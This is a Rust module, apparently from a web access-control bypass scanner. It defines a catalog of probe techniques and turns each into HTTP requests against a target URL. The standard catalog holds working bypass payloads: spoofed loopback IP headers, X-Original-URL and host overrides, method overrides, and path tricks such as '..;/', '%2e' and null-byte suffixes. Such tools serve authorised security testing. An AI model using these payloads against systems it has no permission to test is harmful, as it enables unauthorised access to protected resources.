//! Ordered catalog of access-control bypass techniques.
//!
//! Techniques are templates: header values and paths that depend on the
//! target are resolved when a technique is instantiated for a [`TargetUrl`].
//! Catalog order is the tie-break when several techniques would succeed.

use std::collections::HashSet;
use std::path::Path;

use reqwest::header::{HeaderMap, HeaderName, HeaderValue};
use serde::{Deserialize, Serialize};

use crate::bypass::target::TargetUrl;
use crate::error::{BypassError, Result};

const LOOPBACK: &str = "127.0.0.1";
const LOCALHOST: &str = "localhost";

/// Headers some proxies trust to carry the client address.
const IP_SPOOF_HEADERS: [&str; 7] = [
    "X-Originating-IP",
    "X-Forwarded-For",
    "X-Forwarded",
    "Forwarded-For",
    "X-Remote-IP",
    "X-Remote-Addr",
    "X-ProxyUser-Ip",
];

const URL_OVERRIDE_HEADERS: [&str; 2] = ["X-Original-URL", "X-Rewrite-URL"];

const HOST_OVERRIDE_HEADERS: [&str; 2] = ["X-Forwarded-Host", "X-Host"];

const METHOD_OVERRIDE_HEADERS: [&str; 2] = ["X-HTTP-Method-Override", "X-Original-HTTP-Method"];

const TRAVERSAL_SUFFIXES: [&str; 7] = ["/.", "/..", "/./", "//", "/.;/", ";", "..;/"];

const ENCODED_SUFFIXES: [&str; 6] = ["%20", "%09", "%00", "%0a", "%0d", "%2f"];

/// Where a header override takes its value from.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum HeaderValueSource {
    Literal(String),
    /// Target path without trailing slash
    TargetPath,
    /// Target URL exactly as supplied
    TargetUrl,
    /// `scheme://host[:port]` of the target
    TargetOrigin,
}

impl HeaderValueSource {
    fn resolve(&self, target: &TargetUrl) -> String {
        match self {
            HeaderValueSource::Literal(v) => v.clone(),
            HeaderValueSource::TargetPath => target.base_path().to_string(),
            HeaderValueSource::TargetUrl => target.original().to_string(),
            HeaderValueSource::TargetOrigin => target.origin(),
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct HeaderOverride {
    pub name: String,
    pub value: HeaderValueSource,
}

impl HeaderOverride {
    pub fn new(name: &str, value: HeaderValueSource) -> Self {
        Self { name: name.to_string(), value }
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum PathTransform {
    /// The base path itself, always rooted (`/admin`, or `/` for the site root)
    Unchanged,
    Prefix(String),
    Suffix(String),
    Uppercase,
}

impl PathTransform {
    pub fn apply(&self, base_path: &str) -> String {
        match self {
            PathTransform::Unchanged => format!("/{}", base_path.trim_start_matches('/')),
            PathTransform::Prefix(p) => format!("{}{}", p, base_path),
            PathTransform::Suffix(s) => format!("{}{}", base_path, s),
            PathTransform::Uppercase => base_path.to_uppercase(),
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum Technique {
    /// One header added, path untouched
    Header { name: String, value: HeaderValueSource },
    /// Path rewritten, no extra headers
    Path { transform: PathTransform },
    Combined {
        label: String,
        headers: Vec<HeaderOverride>,
        transform: PathTransform,
    },
}

/// A technique resolved against one target, ready to send.
#[derive(Debug, Clone)]
pub struct ProbeRequest {
    pub name: String,
    pub url: String,
    pub headers: HeaderMap,
}

impl Technique {
    pub fn header(name: &str, value: HeaderValueSource) -> Self {
        Technique::Header { name: name.to_string(), value }
    }

    pub fn literal_header(name: &str, value: &str) -> Self {
        Self::header(name, HeaderValueSource::Literal(value.to_string()))
    }

    pub fn path(transform: PathTransform) -> Self {
        Technique::Path { transform }
    }

    pub fn suffix(suffix: &str) -> Self {
        Self::path(PathTransform::Suffix(suffix.to_string()))
    }

    /// Display name for this technique against `target`.
    pub fn name_for(&self, target: &TargetUrl) -> String {
        match self {
            Technique::Header { name, value } => format!("{}: {}", name, value.resolve(target)),
            Technique::Path { transform } => format!("Path: {}", transform.apply(target.base_path())),
            Technique::Combined { label, .. } => label.clone(),
        }
    }

    fn overrides(&self) -> Vec<(&str, &HeaderValueSource)> {
        match self {
            Technique::Header { name, value } => vec![(name.as_str(), value)],
            Technique::Path { .. } => Vec::new(),
            Technique::Combined { headers, .. } => {
                headers.iter().map(|h| (h.name.as_str(), &h.value)).collect()
            }
        }
    }

    fn request_path(&self, target: &TargetUrl) -> String {
        match self {
            Technique::Header { .. } => target.base_path().to_string(),
            Technique::Path { transform } | Technique::Combined { transform, .. } => {
                transform.apply(target.base_path())
            }
        }
    }

    pub fn instantiate(&self, target: &TargetUrl) -> Result<ProbeRequest> {
        let name = self.name_for(target);
        let mut headers = HeaderMap::new();
        for (header, source) in self.overrides() {
            let header_name = HeaderName::from_bytes(header.as_bytes())
                .map_err(|e| BypassError::config(format!("{}: bad header name: {}", name, e)))?;
            let value = HeaderValue::from_str(&source.resolve(target))
                .map_err(|e| BypassError::invalid_target(target.original(), format!("{}: {}", name, e)))?;
            headers.insert(header_name, value);
        }
        Ok(ProbeRequest {
            url: target.with_path(&self.request_path(target)),
            name,
            headers,
        })
    }

    /// Checks what can be checked without a target.
    pub fn validate(&self) -> Result<()> {
        if let Technique::Combined { label, headers, .. } = self {
            if label.trim().is_empty() {
                return Err(BypassError::config("combined technique needs a label"));
            }
            if headers.is_empty() {
                return Err(BypassError::config(format!("combined technique {:?} has no headers", label)));
            }
        }
        for (header, source) in self.overrides() {
            HeaderName::from_bytes(header.as_bytes())
                .map_err(|_| BypassError::config(format!("invalid header name {:?}", header)))?;
            if let HeaderValueSource::Literal(v) = source {
                HeaderValue::from_str(v)
                    .map_err(|_| BypassError::config(format!("invalid value {:?} for header {}", v, header)))?;
            }
        }
        Ok(())
    }
}

/// Immutable, ordered technique list.
#[derive(Debug, Clone)]
pub struct Catalog {
    techniques: Vec<Technique>,
}

impl Catalog {
    pub fn new(techniques: Vec<Technique>) -> Result<Self> {
        if techniques.is_empty() {
            return Err(BypassError::config("technique catalog is empty"));
        }
        for technique in &techniques {
            technique.validate()?;
        }
        Ok(Self { techniques })
    }

    /// Load a catalog from a JSON array of techniques.
    pub fn from_file(path: &Path) -> Result<Self> {
        let data = std::fs::read_to_string(path)?;
        let techniques: Vec<Technique> = serde_json::from_str(&data)
            .map_err(|e| BypassError::config(format!("{}: {}", path.display(), e)))?;
        Self::new(techniques)
    }

    pub fn standard() -> Self {
        let mut techniques = Vec::with_capacity(34);

        // IP spoofing
        for h in IP_SPOOF_HEADERS {
            techniques.push(Technique::literal_header(h, LOOPBACK));
        }
        // URL override
        for h in URL_OVERRIDE_HEADERS {
            techniques.push(Technique::header(h, HeaderValueSource::TargetPath));
        }
        techniques.push(Technique::literal_header("X-Custom-IP-Authorization", LOOPBACK));
        // Host override
        for h in HOST_OVERRIDE_HEADERS {
            techniques.push(Technique::literal_header(h, LOCALHOST));
        }
        // Method override
        for h in METHOD_OVERRIDE_HEADERS {
            techniques.push(Technique::literal_header(h, "GET"));
        }
        // Referer
        techniques.push(Technique::header("Referer", HeaderValueSource::TargetUrl));
        techniques.push(Technique::header("Referer", HeaderValueSource::TargetOrigin));

        // Path mutations
        techniques.push(Technique::path(PathTransform::Prefix("/%2e".to_string())));
        techniques.push(Technique::path(PathTransform::Unchanged));
        for s in TRAVERSAL_SUFFIXES {
            techniques.push(Technique::suffix(s));
        }
        for s in ENCODED_SUFFIXES {
            techniques.push(Technique::suffix(s));
        }
        techniques.push(Technique::path(PathTransform::Uppercase));
        techniques.push(Technique::suffix("/"));

        techniques.push(Technique::Combined {
            label: "X-Forwarded-For + X-Original-URL".to_string(),
            headers: vec![
                HeaderOverride::new("X-Forwarded-For", HeaderValueSource::Literal(LOOPBACK.to_string())),
                HeaderOverride::new("X-Original-URL", HeaderValueSource::TargetPath),
            ],
            transform: PathTransform::Unchanged,
        });

        Self { techniques }
    }

    pub fn len(&self) -> usize {
        self.techniques.len()
    }

    pub fn is_empty(&self) -> bool {
        self.techniques.is_empty()
    }

    pub fn iter(&self) -> impl Iterator<Item = &Technique> {
        self.techniques.iter()
    }

    /// Resolve every technique for `target`, in catalog order.
    ///
    /// A technique whose name collides with an earlier one for this target is
    /// dropped, as is one whose resolved headers are not valid for the wire.
    pub fn instantiate(&self, target: &TargetUrl) -> Vec<ProbeRequest> {
        let mut seen = HashSet::new();
        let mut out = Vec::with_capacity(self.techniques.len());
        for technique in &self.techniques {
            match technique.instantiate(target) {
                Ok(req) => {
                    if seen.insert(req.name.clone()) {
                        out.push(req);
                    }
                }
                Err(e) => {
                    tracing::debug!(url = %target.original(), error = %e, "skipping technique");
                }
            }
        }
        out
    }
}

impl Default for Catalog {
    fn default() -> Self {
        Self::standard()
    }
}
